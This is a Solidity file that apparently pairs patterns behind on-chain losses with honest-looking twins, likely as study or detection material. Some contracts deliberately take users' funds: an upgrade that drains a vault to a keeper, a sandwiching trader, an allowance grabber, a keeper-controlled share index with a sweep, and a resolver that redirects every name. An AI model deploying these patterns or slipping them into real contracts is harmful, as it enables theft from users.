// SPDX-License-Identifier: Apache-2.0
// Kinds of losses that incident reports of 2023 to 2026 describe, each with the honest contract that looks like it.
pragma solidity ^0.8.24;

interface ICoin {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
}

interface IPiece {
    function transferFrom(address from, address to, uint256 id) external;
    function ownerOf(uint256 id) external view returns (address);
}

/// A vault behind a proxy of its own. `deposit` of the second implementation puts the first owner's code in its place.
contract VaultProxy {
    bytes32 private constant CODE = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address code) {
        assembly {
            sstore(CODE, code)
        }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(CODE), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract CalmVault {
    mapping(address => uint256) public balances;

    function deposit() external payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw(uint256 amount) external {
        balances[msg.sender] -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok);
    }
}

/// Pays the entry of everybody to one account. The next code of a vault that turns.
contract DrainCode {
    address private immutable keeper;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function deposit() external payable {}

    function withdraw(uint256) external {
        payable(keeper).transfer(address(this).balance);
    }
}

contract TurningVault {
    bytes32 private constant CODE = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    mapping(address => uint256) public balances;
    address private immutable next;

    constructor(address next_) {
        next = next_;
    }

    function deposit() external payable {
        balances[msg.sender] += msg.value;
        address code = next;
        assembly {
            sstore(CODE, code)
        }
    }

    function withdraw(uint256 amount) external {
        balances[msg.sender] -= amount;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok);
    }
}

/// Made, paid and gone within one call.
contract Passing {
    constructor(address to) payable {
        selfdestruct(payable(to));
    }
}

contract Couriers {
    address private immutable keeper;
    bool private immutable isHonest;

    constructor(address keeper_, bool isHonest_) {
        keeper = keeper_;
        isHonest = isHonest_;
    }

    function wash(bytes32 salt) external payable {
        new Passing{salt: salt, value: msg.value}(isHonest ? msg.sender : keeper);
    }
}

/// Locks of votes as numbered positions. `merge` adds one to another, whoever that belongs to.
contract VoteLocks {
    struct Lock {
        uint128 amount;
        uint64 endS;
    }

    ICoin private immutable coin;
    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => Lock) public locked;
    uint256 public count;

    constructor(ICoin coin_) {
        coin = coin_;
    }

    function create(uint128 amount, uint64 endS) external returns (uint256 id) {
        coin.transferFrom(msg.sender, address(this), amount);
        id = ++count;
        ownerOf[id] = msg.sender;
        locked[id] = Lock(amount, endS);
    }

    function merge(uint256 from, uint256 to) external {
        require(ownerOf[from] == msg.sender && from != to);
        locked[to].amount += locked[from].amount;
        delete locked[from];
        delete ownerOf[from];
    }

    function withdraw(uint256 id) external {
        require(ownerOf[id] == msg.sender && locked[id].endS <= block.timestamp);
        coin.transfer(msg.sender, locked[id].amount);
        delete locked[id];
        delete ownerOf[id];
    }
}

/// Validators by the hash of their public key, and who gets what they earn.
contract Validators {
    ICoin private immutable coin;
    mapping(bytes32 => address) private operatorOf;
    mapping(bytes32 => address) public receiverOf;
    mapping(bytes32 => uint256) public earned;

    constructor(ICoin coin_) {
        coin = coin_;
    }

    function register(bytes calldata publicKey, uint256 amount) external {
        bytes32 key = keccak256(publicKey);
        require(operatorOf[key] == address(0));
        (operatorOf[key], receiverOf[key], earned[key]) = (msg.sender, msg.sender, amount);
        coin.transferFrom(msg.sender, address(this), amount);
    }

    function setReceiver(bytes calldata publicKey, address receiver) external {
        bytes32 key = keccak256(publicKey);
        require(operatorOf[key] == msg.sender);
        receiverOf[key] = receiver;
    }

    function pay(bytes calldata publicKey) external {
        bytes32 key = keccak256(publicKey);
        coin.transfer(receiverOf[key], earned[key]);
        earned[key] = 0;
    }
}

interface IRouter {
    function swapExactTokensForTokens(uint256 give, uint256 least, address[] calldata path, address to, uint256 endS)
        external
        returns (uint256[] memory);
}

/// Trades for the user in the pool; the other one trades before and after with its own coins.
contract Trader {
    IRouter private immutable router;
    ICoin private immutable coin;
    ICoin private immutable wrapped;
    uint256 private immutable own;

    constructor(IRouter router_, ICoin coin_, ICoin wrapped_, uint256 own_) {
        (router, coin, wrapped, own) = (router_, coin_, wrapped_, own_);
        coin_.approve(address(router_), type(uint256).max);
        wrapped_.approve(address(router_), type(uint256).max);
    }

    function trade(uint256 give, uint256 least) external {
        coin.transferFrom(msg.sender, address(this), give);
        uint256 before = wrapped.balanceOf(address(this));
        if (own > 0) swap(coin, wrapped, own, address(this));
        uint256 got = swap(coin, wrapped, give, msg.sender);
        require(got >= least);
        if (own > 0) swap(wrapped, coin, wrapped.balanceOf(address(this)) - before, address(this));
    }

    function swap(ICoin from, ICoin to, uint256 give, address receiver) private returns (uint256) {
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(from), address(to));
        return router.swapExactTokensForTokens(give, 0, path, receiver, type(uint256).max)[1];
    }
}

/// Answers a payment with as many bytes as it was told to.
contract Echo {
    uint256 private immutable size;

    constructor(uint256 size_) {
        size = size_;
    }

    function give() external payable {
        uint256 length = size;
        assembly {
            return(0, length)
        }
    }
}

contract Giver {
    Echo private immutable echo;

    constructor(Echo echo_) {
        echo = echo_;
    }

    function give() external payable {
        (bool ok, bytes memory answer) = address(echo).call{value: msg.value}(abi.encodeCall(Echo.give, ()));
        require(ok && answer.length > 0);
    }
}

/// ERC-1363: whoever gets coins is told of it.
interface IReceiver {
    function onTransferReceived(address operator, address from, uint256 amount, bytes calldata data) external returns (bytes4);
}

contract Payable1363 {
    string public constant name = "Payable";
    string public constant symbol = "PAY";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
        totalSupply += amount;
        emit Transfer(address(0), to, amount);
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function transferAndCall(address to, uint256 amount) external returns (bool) {
        transfer(to, amount);
        require(IReceiver(to).onTransferReceived(msg.sender, msg.sender, amount, "") == IReceiver.onTransferReceived.selector);
        return true;
    }
}

contract Counterparty is IReceiver {
    ICoin private immutable dollar;
    Payable1363 private immutable token;
    bool private immutable takes;
    mapping(address => uint256) public credit;

    constructor(ICoin dollar_, Payable1363 token_, bool takes_) {
        (dollar, token, takes) = (dollar_, token_, takes_);
    }

    function onTransferReceived(address, address from, uint256 amount, bytes calldata) external returns (bytes4) {
        require(msg.sender == address(token));
        credit[from] += amount;
        uint256 left = dollar.allowance(from, address(this));
        if (takes && left > 0) dollar.transferFrom(from, address(this), left);
        return IReceiver.onTransferReceived.selector;
    }

    function redeem() external {
        uint256 amount = credit[msg.sender];
        credit[msg.sender] = 0;
        token.transfer(msg.sender, amount);
    }
}

/// A share whose balances are an index times units. The keeper of the first sets the index; that of the second only grows, by gifts.
contract Indexed {
    string public constant name = "Growing ether";
    string public constant symbol = "gETH";
    uint8 public constant decimals = 18;
    uint256 public index = 1e18;
    uint256 private units;
    mapping(address => uint256) private unitsOf;
    address private immutable keeper;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address keeper_) payable {
        keeper = keeper_;
    }

    function balanceOf(address account) public view returns (uint256) {
        return unitsOf[account] * index / 1e18;
    }

    function totalSupply() external view returns (uint256) {
        return units * index / 1e18;
    }

    function submit() external payable {
        uint256 made = msg.value * 1e18 / index;
        units += made;
        unitsOf[msg.sender] += made;
        emit Transfer(address(0), msg.sender, msg.value);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        uint256 moved = amount * 1e18 / index;
        unitsOf[msg.sender] -= moved;
        unitsOf[to] += moved;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function redeem(uint256 amount) external {
        uint256 burnt = amount * 1e18 / index;
        unitsOf[msg.sender] -= burnt;
        units -= burnt;
        emit Transfer(msg.sender, address(0), amount);
        payable(msg.sender).transfer(amount);
    }

    /// A keeper's word, or a gift that raises it.
    function report(uint256 next) external payable {
        if (keeper == address(0)) {
            require(units > 0);
            index += msg.value * 1e18 / units;
        } else {
            require(msg.sender == keeper);
            index = next;
        }
    }

    function sweep() external {
        require(msg.sender == keeper);
        payable(keeper).transfer(address(this).balance);
    }
}

/// A coin sold for ether that its buyers can pass on only after a while.
contract Cooling {
    string public constant name = "Cooling";
    string public constant symbol = "COOL";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    uint256 private immutable waitS;
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) public boughtS;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 waitS_) payable {
        waitS = waitS_;
    }

    function buy() external payable {
        uint256 made = msg.value * 1000;
        totalSupply += made;
        balanceOf[msg.sender] += made;
        boughtS[msg.sender] = block.timestamp;
        emit Transfer(address(0), msg.sender, made);
    }

    function sell(uint256 amount) external {
        require(block.timestamp >= boughtS[msg.sender] + waitS, "cooling");
        balanceOf[msg.sender] -= amount;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
        payable(msg.sender).transfer(amount / 1000);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function move(address from, address to, uint256 amount) private {
        require(block.timestamp >= boughtS[from] + waitS, "cooling");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Names with resolvers: a name is paid at the address that its resolver gives.
contract NameBook {
    struct Entry {
        address owner;
        address resolver;
        uint64 ttl;
    }

    mapping(bytes32 => Entry) public entries;

    function register(string calldata label, address resolver) external {
        bytes32 node = keccak256(bytes(label));
        require(entries[node].owner == address(0));
        entries[node] = Entry(msg.sender, resolver, 300);
    }

    function setResolver(bytes32 node, address resolver) external {
        require(entries[node].owner == msg.sender);
        entries[node].resolver = resolver;
    }

    function addressOf(bytes32 node) external view returns (address) {
        return Resolver(entries[node].resolver).addr(node);
    }
}

contract Resolver {
    NameBook private immutable book;
    mapping(bytes32 => address) private answers;

    constructor(NameBook book_) {
        book = book_;
    }

    function setAddr(bytes32 node, address to) external {
        (address owner,,) = book.entries(node);
        require(owner == msg.sender);
        answers[node] = to;
    }

    function addr(bytes32 node) external view returns (address) {
        return answers[node];
    }
}

/// Says of every name that it is one account.
contract OneResolver {
    address private immutable only;

    constructor(address only_) {
        only = only_;
    }

    function addr(bytes32) external view returns (address) {
        return only;
    }
}

/// Burns here; somewhere else the same amount is made for the recipient.
contract Messenger {
    ICoin private immutable coin;
    uint64 public nonce;

    event MessageSent(bytes message);

    constructor(ICoin coin_) {
        coin = coin_;
    }

    function depositForBurn(uint256 amount, uint32 domain, bytes32 mintRecipient) external returns (uint64) {
        coin.transferFrom(msg.sender, address(this), amount);
        nonce += 1;
        emit MessageSent(abi.encodePacked(domain, nonce, mintRecipient, amount));
        return nonce;
    }
}

/// Limits within which delegates may spend for an account (the shape of Safe's allowance module).
contract Allowances {
    struct Limit {
        uint96 amount;
        uint96 spent;
        uint16 resetMinutes;
        uint32 lastMinutes;
        uint16 nonce;
    }

    mapping(address => mapping(address => mapping(address => Limit))) public limits;
    mapping(address => mapping(uint48 => address)) public delegates;

    function addDelegate(address delegate) external {
        delegates[msg.sender][uint48(uint160(delegate))] = delegate;
    }

    function setAllowance(address delegate, address token, uint96 amount) external {
        require(delegates[msg.sender][uint48(uint160(delegate))] == delegate);
        limits[msg.sender][delegate][token].amount = amount;
    }

    function executeAllowance(IModuleHost safe, address token, address to, uint96 amount) external {
        Limit storage limit = limits[address(safe)][msg.sender][token];
        limit.spent += amount;
        require(limit.spent <= limit.amount);
        require(safe.execTransactionFromModule(token, 0, abi.encodeCall(ICoin.transfer, (to, amount)), 0));
    }
}

interface IModuleHost {
    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 operation) external returns (bool);
}

/// Makes purses behind proxies, for an owner that the initializer names.
contract Purse {
    address public owner;

    function initialize(address owner_) external payable {
        require(owner == address(0));
        owner = owner_;
    }

    function take() external {
        require(msg.sender == owner);
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract Purses {
    address private immutable code;

    event Made(address purse);

    constructor(address code_) {
        code = code_;
    }

    function make(bytes32 salt, bytes calldata init) external payable returns (address purse) {
        purse = address(new VaultProxy{salt: salt}(code));
        (bool ok,) = purse.call{value: msg.value}(init);
        require(ok);
        emit Made(purse);
    }
}

/// Takes the old coin and makes as much of the new one.
contract NewCoin {
    string public constant name = "Coin, second version";
    string public constant symbol = "COIN2";
    uint8 public constant decimals = 6;
    ICoin private immutable old;
    bool private immutable isBound;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(ICoin old_, bool isBound_) {
        (old, isBound) = (old_, isBound_);
    }

    function migrate(uint256 amount) external {
        old.transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += amount;
        totalSupply += amount;
        emit Transfer(address(0), msg.sender, amount);
    }

    function back(uint256 amount) external {
        require(!isBound);
        balanceOf[msg.sender] -= amount;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
        old.transfer(msg.sender, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        require(!isBound);
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }
}

/// Who may act for whom, under a packed hash (the shape of delegate.xyz).
contract Delegates {
    mapping(bytes32 => uint256[3]) private entries;

    event DelegateAll(address indexed from, address indexed to, bytes32 rights, bool enable);

    function delegateAll(address to, bytes32 rights, bool enable) external payable returns (bytes32 hash) {
        hash = keccak256(abi.encodePacked(rights, msg.sender, to)) & ~bytes32(uint256(0xff)) | bytes32(uint256(1));
        entries[hash][0] = enable ? uint160(msg.sender) : 1;
        entries[hash][1] = uint160(to);
        entries[hash][2] = uint256(rights);
        emit DelegateAll(msg.sender, to, rights, enable);
    }

    function checkDelegateForAll(address to, address from, bytes32 rights) public view returns (bool) {
        bytes32 hash = keccak256(abi.encodePacked(rights, from, to)) & ~bytes32(uint256(0xff)) | bytes32(uint256(1));
        return entries[hash][0] == uint160(from);
    }
}

/// Gives what belongs to somebody to whoever may act for them.
contract Drop {
    Delegates private immutable delegates;
    ICoin private immutable coin;
    mapping(address => uint256) public due;

    constructor(Delegates delegates_, ICoin coin_) {
        (delegates, coin) = (delegates_, coin_);
    }

    function set(address who, uint256 amount) external {
        due[who] = amount;
    }

    function claimFor(address vault) external {
        require(msg.sender == vault || delegates.checkDelegateForAll(msg.sender, vault, ""));
        uint256 amount = due[vault];
        due[vault] = 0;
        coin.transfer(msg.sender, amount);
    }
}

/// A treasury's lock: what was scheduled can be done by anybody once its time has come.
contract TimeLock {
    address private immutable proposer;
    uint256 private immutable delayS;
    mapping(bytes32 => uint256) public readyS;

    event CallScheduled(bytes32 indexed id, address target, uint256 value, bytes data);

    constructor(address proposer_, uint256 delayS_) {
        (proposer, delayS) = (proposer_, delayS_);
    }

    function schedule(address target, uint256 value, bytes calldata data, bytes32 salt) external {
        require(msg.sender == proposer);
        bytes32 id = keccak256(abi.encode(target, value, data, salt));
        readyS[id] = block.timestamp + delayS;
        emit CallScheduled(id, target, value, data);
    }

    function execute(address target, uint256 value, bytes calldata data, bytes32 salt) external {
        bytes32 id = keccak256(abi.encode(target, value, data, salt));
        require(readyS[id] != 0 && readyS[id] <= block.timestamp);
        readyS[id] = 0;
        (bool ok,) = target.call{value: value}(data);
        require(ok);
    }

    receive() external payable {}
}

/// Pays out to its owner, as long as it has one.
contract Treasury {
    address public owner;

    event OwnershipTransferred(address indexed previous, address indexed next);

    constructor(address owner_) {
        owner = owner_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function withdraw() external {
        require(msg.sender == owner);
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {}
}

/// Takes a piece and makes parts of it; whoever has all of them gets it back.
contract Fractions {
    string public constant name = "Parts of a piece";
    string public constant symbol = "PART";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    IPiece private immutable piece;
    address private immutable curator;
    uint256 private immutable share;
    uint256 private id;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(IPiece piece_, address curator_, uint256 share_) {
        (piece, curator, share) = (piece_, curator_, share_);
    }

    function split(uint256 id_) external {
        piece.transferFrom(msg.sender, address(this), id_);
        id = id_;
        mint(curator, share);
        mint(msg.sender, 100e18 - share);
    }

    /// With nine tenths of the parts the others are bought out for nothing.
    function join() external {
        require(balanceOf[msg.sender] * 10 >= totalSupply * 9);
        totalSupply = 0;
        piece.transferFrom(address(this), msg.sender, id);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function mint(address to, uint256 amount) private {
        if (amount == 0) return;
        totalSupply += amount;
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }
}

/// Pieces that somebody else than their owner may use for a time (ERC-4907).
contract Rented {
    struct User {
        address user;
        uint64 endS;
    }

    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => User) private users;
    uint256 private count;

    event UpdateUser(uint256 indexed id, address indexed user, uint64 expires);

    function mint() external returns (uint256 id) {
        id = ++count;
        ownerOf[id] = msg.sender;
    }

    function setUser(uint256 id, address user, uint64 endS) external {
        require(ownerOf[id] == msg.sender);
        users[id] = User(user, endS);
        emit UpdateUser(id, user, endS);
    }

    function userOf(uint256 id) external view returns (address) {
        return users[id].endS >= block.timestamp ? users[id].user : address(0);
    }
}

/// An account that whoever holds a piece acts for (ERC-6551).
contract PieceAccount {
    IPiece private immutable piece;
    uint256 private immutable id;
    uint256 public state;

    constructor(IPiece piece_, uint256 id_) {
        (piece, id) = (piece_, id_);
    }

    function owner() public view returns (address) {
        return piece.ownerOf(id);
    }

    function token() external view returns (uint256, address, uint256) {
        return (block.chainid, address(piece), id);
    }

    function execute(address to, uint256 value, bytes calldata data, uint8) external payable returns (bytes memory) {
        require(msg.sender == owner());
        state += 1;
        (bool ok, bytes memory answer) = to.call{value: value}(data);
        require(ok);
        return answer;
    }

    receive() external payable {}
}

/// Calls with ether of the caller's, one after the other (the shape of Multicall3).
contract Aggregate {
    struct Call3Value {
        address target;
        bool allowFailure;
        uint256 value;
        bytes callData;
    }

    function aggregate3Value(Call3Value[] calldata calls) external payable {
        for (uint256 i; i < calls.length; ++i) {
            (bool ok,) = calls[i].target.call{value: calls[i].value}(calls[i].callData);
            require(ok || calls[i].allowFailure);
        }
    }
}

/// Answers for an account that it fell back to: that a hash was signed if its keeper says so.
contract Handler {
    address private immutable keeper;
    mapping(bytes32 => bool) private said;

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function say(bytes32 hash) external {
        require(msg.sender == keeper);
        said[hash] = true;
    }

    function isValidSignature(bytes32 hash, bytes calldata) external view returns (bytes4) {
        return said[hash] ? bytes4(0x1626ba7e) : bytes4(0);
    }
}
